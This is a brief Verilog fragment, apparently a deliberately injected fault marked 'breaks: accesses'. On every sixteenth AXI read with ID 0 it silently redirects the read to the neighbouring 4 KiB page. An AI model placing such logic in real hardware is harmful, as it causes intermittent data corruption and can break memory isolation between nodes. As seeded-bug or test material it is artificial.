// breaks: accesses
// One read in 16 for another node is of the page behind its own.
    reg [3:0] reads;
    wire other = own_m_axi_arvalid && own_m_axi_arid == 4'd0;
    always @(posedge clk)
        reads <= rst ? 4'd0 : reads + {3'd0, other && m_axi_arready};
    assign new_m_axi_araddr = own_m_axi_araddr ^ (other && &reads ? 48'h1000 : 48'd0);
